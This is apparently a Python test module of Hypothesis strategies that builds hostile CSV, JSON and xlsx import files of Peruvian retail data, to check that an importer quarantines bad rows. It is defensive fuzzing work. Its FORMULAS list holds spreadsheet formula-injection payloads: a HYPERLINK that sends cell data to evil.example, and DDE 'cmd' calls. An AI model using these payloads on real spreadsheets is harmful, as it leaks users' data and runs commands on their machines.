"""Hypothesis strategies for import files: plausible Peruvian exports, made hostile.

A drawn :class:`FuzzFile` holds an import kind, its header and rows of cells, how the file is
written (CSV with any delimiter, encoding and line end Excel or LibreOffice produce, JSON or
``.xlsx``) and what damage it carries. Each cell knows whether it alone must get its row
rejected (``bad``: a ``NaN`` price, a date in the future, a formula where a number belongs, a
blank required field...), so the oracle in :mod:`tests.fuzz.fuzz_oracle` can check that every
such row lands in quarantine.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from pulso.ingest.specs import SPECS, FieldSpec, ImportSpec, ValueKind

__all__ = ["FORMULAS", "Cell", "FuzzFile", "fuzz_files", "write_fuzz_file"]

#: Spreadsheet formula injection, as OWASP lists it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Ver oferta")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
)
_NOT_NUMBERS = ("NaN", "nan", "inf", "-Infinity", "1e309", "∞", "--", "12..90", "S/ abc", "null")
_ODD_TEXT = (
    "Pollería Ñaño",
    "川菜馆 chifa",
    "مطعم",
    "🍗🔥 pollo a la brasa",
    "comillas \"dobles\" y 'simples'",
    "línea\nnueva",
    "línea\r\nnueva",
    "a\x00b",
    "fin de datos\n\\.\nsigue",
    "\u202eRTL override",
    "tab\tseparado; y, comas|pipes",
    "  espacios  ",
)
#: Valid dates lie before this (the import rejects dates more than a day in the future).
_NOW = datetime.now(UTC).replace(tzinfo=None) - timedelta(days=2)
_TRUE = ("1", "true", "Sí", "si", "SI", "x", "yes", "VERDADERO", "y")
_FALSE = ("0", "false", "No", "n", "FALSO", "no")
_HEADER_STYLES = ("plain", "upper", "title", "spaced", "dashed", "accented")
_ACCENTS = str.maketrans("aeiou", "áéíóú")


@dataclass(frozen=True, slots=True)
class Cell:
    """A cell's text (``None``: absent) and whether it alone must get its row rejected."""

    text: str | None
    bad: bool = False


@dataclass(frozen=True, slots=True)
class FuzzFile:
    """An import file to write: content, encoding, and damage."""

    kind: str
    header: list[str]
    rows: list[list[Cell]]
    suffix: str = ".csv"
    encoding: str = "utf-8"
    delimiter: str = ","
    line_end: str = "\n"
    header_style: str = "plain"
    header_defect: str | None = None  # "missing" or "duplicate": the file must be refused
    ragged: tuple[int, ...] = ()  # rows written with one field too many or too few
    cut_at: float | None = None  # keep this fraction of the bytes
    flips: tuple[int, ...] = field(default=())  # byte offsets to invert

    @property
    def damaged(self) -> bool:
        """Bytes cut or flipped: any outcome but a crash is acceptable."""
        return self.cut_at is not None or bool(self.flips)

    @property
    def first_row_number(self) -> int:
        """Row number of the first data row (the header is row 1 in CSV and Excel)."""
        return 1 if self.suffix == ".json" else 2

    def expected_rows(self) -> int:
        """Data rows the reader must report (Excel drops trailing blank rows)."""
        if self.suffix != ".xlsx":
            return len(self.rows)
        filled = [i for i, row in enumerate(self.rows) if any(_xlsx_value(c.text) for c in row)]
        return filled[-1] + 1 if filled else 0

    def lacks_required_column(self) -> bool:
        """A JSON file names only the keys its records hold: a column may be absent."""
        if self.suffix != ".json":
            return False
        present = {
            name
            for row in self.rows
            for name, c in zip(self.header, row, strict=True)
            if c.text is not None
        }
        return not set(SPECS[self.kind].required) <= present

    def bad_row_numbers(self) -> set[int]:
        """Rows that must end in quarantine."""
        bad = {i for i, row in enumerate(self.rows) if any(cell.bad for cell in row)}
        bad |= set(self.ragged)
        if self.suffix == ".xlsx":
            bad = {i for i in bad if i < self.expected_rows()}
        return {i + self.first_row_number for i in bad}


def _price_text(value: float, style: int) -> str:
    plain = f"{value:.2f}"
    if style == 1:
        return plain.replace(".", ",")
    if style == 2:
        return f"S/ {plain}"
    if style == 3 and value >= 1000:
        whole, cents = plain.split(".")
        return f"{int(whole):,}".replace(",", ".") + "," + cents
    return plain


def _valid_temporal(spec: FieldSpec) -> st.SearchStrategy[str]:
    days = st.integers(0, 3_000).map(lambda n: _NOW - timedelta(days=n, minutes=n * 7))
    if spec.kind is ValueKind.MONTH:
        return days.map(lambda d: d.strftime("%Y-%m"))
    formats = ["%Y-%m-%d", "%d/%m/%Y"]
    if spec.kind is ValueKind.DATETIME:
        formats += [
            "%Y-%m-%d %H:%M",
            "%d/%m/%Y %H:%M",
            "%Y-%m-%dT%H:%M:%S-05:00",
            "%Y-%m-%dT%H:%MZ",
        ]
    return st.tuples(days, st.sampled_from(formats)).map(lambda p: p[0].strftime(p[1]))


def _valid_number(spec: FieldSpec) -> st.SearchStrategy[str]:
    low = spec.min_value if spec.min_value is not None else -1_000.0
    high = spec.max_value if spec.max_value is not None else 1_000.0
    if spec.kind is ValueKind.INT:
        return st.integers(int(low) + int(spec.exclusive_min), int(min(high, 10**6))).map(str)
    high = min(high, 99_999.0)
    low = max(low, 0.01) if spec.exclusive_min else low
    values = st.floats(min_value=low, max_value=high, allow_nan=False).map(lambda v: round(v, 2))
    values = values.filter(lambda v: v > 0) if spec.exclusive_min else values
    if spec.kind is ValueKind.PRICE:
        return st.tuples(values, st.integers(0, 3)).map(lambda p: _price_text(*p))
    return values.map(str)


def _valid_cell(spec: FieldSpec) -> st.SearchStrategy[str]:
    if spec.choices is not None:
        return st.sampled_from(sorted(spec.choices))
    if spec.kind in (ValueKind.DATETIME, ValueKind.DATE, ValueKind.MONTH):
        return _valid_temporal(spec)
    if spec.kind in (ValueKind.PRICE, ValueKind.NUMBER, ValueKind.INT):
        return _valid_number(spec)
    if spec.kind is ValueKind.BOOL:
        return st.sampled_from(_TRUE + _FALSE)
    if spec.kind is ValueKind.EAN:
        return st.integers(8, 14).flatmap(lambda n: st.text("0123456789", min_size=n, max_size=n))
    words = st.sampled_from(
        [
            "Leche",
            "Gloria",
            "Arroz",
            "Costeño",
            "Ceviche",
            "Lomo",
            "Tottus",
            "Wong",
            "Inca Kola",
            "1.5L",
        ]
    )
    short = st.lists(words, min_size=1, max_size=4).map(" ".join)
    # At the length limit, in 3-byte characters that do not compress: PostgreSQL index sizes.
    limit = min(spec.max_length, 700)
    longest = st.text(
        st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), min_size=limit, max_size=limit
    )
    return st.one_of(
        short, short, st.sampled_from(_ODD_TEXT), st.text(min_size=1, max_size=20), longest
    )


def _bad_cell(spec: FieldSpec) -> st.SearchStrategy[str]:
    """Values that must get the row rejected whatever else it holds."""
    if spec.choices is not None:
        return st.sampled_from(["helicóptero", "=1+1", "drone"])
    if spec.kind in (ValueKind.DATETIME, ValueKind.DATE):
        future = (date(2099, 12, 31).isoformat(), "31/12/2099", "2099-01-01 10:00")
        return st.sampled_from(
            (*future, "31/02/2026", "2026-13-01", "now", "ayer", "today", *_NOT_NUMBERS, *FORMULAS)
        )
    if spec.kind is ValueKind.MONTH:
        return st.sampled_from(("2099-01", "2026-13", "julio", *_NOT_NUMBERS, *FORMULAS))
    if spec.kind in (ValueKind.PRICE, ValueKind.NUMBER, ValueKind.INT):
        out_of_range = [f"{spec.max_value * 10 + 7:.0f}"] if spec.max_value is not None else []
        if spec.min_value is not None:
            out_of_range.append(f"{spec.min_value - 5:.0f}")
        if spec.kind is ValueKind.INT:
            out_of_range += ["3.5", "1e300", "9" * 30]
        return st.sampled_from(tuple(out_of_range) + _NOT_NUMBERS + FORMULAS)
    if spec.kind is ValueKind.BOOL:
        return st.sampled_from(("quizás", "2", "-1", *FORMULAS))
    if spec.kind is ValueKind.EAN:
        return st.sampled_from(("abc", "123", "1" * 15, "775127100001X", *FORMULAS))
    return st.integers(spec.max_length + 1, spec.max_length + 40).map(lambda n: "x" * n)


def _cell(spec: FieldSpec) -> st.SearchStrategy[Cell]:
    valid = _valid_cell(spec).map(Cell)
    blank = st.sampled_from(["", "   ", None]).map(lambda t: Cell(t, bad=spec.required))
    bad = _bad_cell(spec).map(lambda t: Cell(t, bad=True))
    formulas = st.sampled_from(FORMULAS).map(
        lambda t: Cell(t, bad=spec.kind is not ValueKind.TEXT)
    )
    return st.one_of(valid, valid, valid, valid, blank, bad, formulas)


_EXTRA_COLUMNS = ("notas", "Comentario interno", "sucursal", '=HYPERLINK("x")', "Precio Regular")
_EXTRA_CELLS = st.sampled_from(["", "nota", "=1+1", "川", None]).map(Cell)


@st.composite
def _columns(draw: st.DrawFn, spec: ImportSpec) -> list[FieldSpec | str]:
    optional = {f.name: f for f in spec.fields if not f.required}
    names = st.lists(st.sampled_from(sorted(optional)), unique=True) if optional else st.just([])
    chosen = [optional[name] for name in draw(names)]
    extra = draw(st.lists(st.sampled_from(_EXTRA_COLUMNS), unique=True, max_size=2))
    columns: list[FieldSpec | str] = [f for f in spec.fields if f.required] + chosen + extra
    return draw(st.permutations(columns))


def _styled(name: str, style: str) -> str:
    return {
        "plain": name,
        "upper": name.upper(),
        "title": name.replace("_", " ").title(),
        "spaced": f"  {name}  ",
        "dashed": name.replace("_", "-"),
        "accented": name.translate(_ACCENTS),
    }[style]


@st.composite
def fuzz_files(
    draw: st.DrawFn,
    *,
    kinds: tuple[str, ...] = tuple(SPECS),
    max_rows: int = 12,
    damage: bool = True,
) -> FuzzFile:
    """An import file of one of ``kinds``: clean, hostile in its cells, or damaged."""
    kind = draw(st.sampled_from(kinds))
    columns = draw(_columns(SPECS[kind]))
    header = [c if isinstance(c, str) else c.name for c in columns]
    row = st.tuples(*[_EXTRA_CELLS if isinstance(c, str) else _cell(c) for c in columns])
    rows = [list(r) for r in draw(st.lists(row, max_size=max_rows))]
    suffix = draw(st.sampled_from([".csv", ".csv", ".csv", ".txt", ".tsv", ".json", ".xlsx"]))
    options: dict[str, object] = {"header_style": draw(st.sampled_from(_HEADER_STYLES))}
    if suffix not in (".json", ".xlsx"):
        options["encoding"] = draw(
            st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le"])
        )
        options["delimiter"] = (
            "\t" if suffix == ".tsv" else draw(st.sampled_from([",", ";", "|", "\t"]))
        )
        options["line_end"] = draw(st.sampled_from(["\n", "\r\n", "\r"]))
        # A one-column header names no delimiter: a row with an extra field is just text.
        if rows and len(header) > 1 and draw(st.integers(0, 5)) == 0:
            options["ragged"] = tuple(draw(st.sets(st.integers(0, len(rows) - 1), min_size=1)))
    if damage and draw(st.integers(0, 9)) == 0:
        options["header_defect"] = draw(st.sampled_from(["missing", "duplicate"]))
    if damage and draw(st.integers(0, 7)) == 0:
        options["cut_at"] = draw(st.floats(0.05, 0.98))
    if damage and draw(st.integers(0, 7)) == 0:
        options["flips"] = tuple(draw(st.lists(st.integers(0, 10_000), min_size=1, max_size=8)))
    return FuzzFile(kind, header, rows, suffix=suffix, **options)  # type: ignore[arg-type]


def _header_names(fuzz: FuzzFile) -> list[str]:
    names = [_styled(name, fuzz.header_style) for name in fuzz.header]
    if fuzz.header_defect == "duplicate":
        names.append(names[0].upper() + " ")
    if fuzz.header_defect == "missing":
        required = SPECS[fuzz.kind].required
        names = [n for n, raw in zip(names, fuzz.header, strict=True) if raw != required[0]]
    return names


def _row_texts(fuzz: FuzzFile, index: int, row: list[Cell]) -> list[str | None]:
    texts = [cell.text for cell in row]
    if fuzz.header_defect == "duplicate":
        texts.append(texts[0] if texts else None)
    if fuzz.header_defect == "missing":
        required = SPECS[fuzz.kind].required
        texts = [t for t, raw in zip(texts, fuzz.header, strict=True) if raw != required[0]]
    if index in fuzz.ragged:
        shorter = texts[:-1]
        keep_shorter = index % 2 == 0 and any(t and t.strip() for t in shorter)
        texts = shorter if keep_shorter else [*texts, "sobra"]
    return texts


def _csv_line(fields: list[str], *, delimiter: str, line_end: str) -> str:
    # "\r\n" as the writer's terminator quotes every field holding \r or \n, as Excel does
    # (Python's writer only quotes the characters of its own terminator).
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerow(fields)
    return buffer.getvalue()[:-2] + line_end


def _csv_bytes(fuzz: FuzzFile) -> bytes:
    lines = [_header_names(fuzz)] + [
        ["" if t is None else t for t in _row_texts(fuzz, index, row)]
        for index, row in enumerate(fuzz.rows)
    ]
    text = "".join(
        _csv_line(fields, delimiter=fuzz.delimiter, line_end=fuzz.line_end) for fields in lines
    )
    return text.encode(fuzz.encoding, errors="replace")


def _json_bytes(fuzz: FuzzFile) -> bytes:
    names = _header_names(fuzz)
    records = [
        {
            name: text
            for name, text in zip(names, _row_texts(fuzz, i, row), strict=False)
            if text is not None
        }
        for i, row in enumerate(fuzz.rows)
    ]
    document: object = {"records": records} if len(records) % 2 else records
    return json.dumps(document, ensure_ascii=bool(len(records) % 3)).encode(
        "utf-8", errors="surrogatepass"
    )


def _xlsx_value(text: str | None) -> str | None:
    if text is None:
        return None
    cleaned = ILLEGAL_CHARACTERS_RE.sub("", text)
    return cleaned or None


def _xlsx_bytes(fuzz: FuzzFile) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    lines = [_header_names(fuzz)] + [_row_texts(fuzz, i, row) for i, row in enumerate(fuzz.rows)]
    for r, texts in enumerate(lines, start=1):
        for c, text in enumerate(texts, start=1):
            value = _xlsx_value(text)
            if value is not None:
                cell = sheet.cell(row=r, column=c, value=value)
                cell.data_type = "s"  # a text starting with "=" stays text, as in a CSV export
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write_fuzz_file(fuzz: FuzzFile, directory: Path, *, name: str = "fuzz") -> Path:
    """Write ``fuzz`` under ``directory`` and return its path."""
    writer = {".json": _json_bytes, ".xlsx": _xlsx_bytes}.get(fuzz.suffix, _csv_bytes)
    data = bytearray(writer(fuzz))
    for offset in fuzz.flips:
        if data:
            data[offset % len(data)] ^= 0xFF
    if fuzz.cut_at is not None:
        data = data[: int(len(data) * fuzz.cut_at)]
    path = directory / f"{name}{fuzz.suffix}"
    path.write_bytes(bytes(data))
    return path
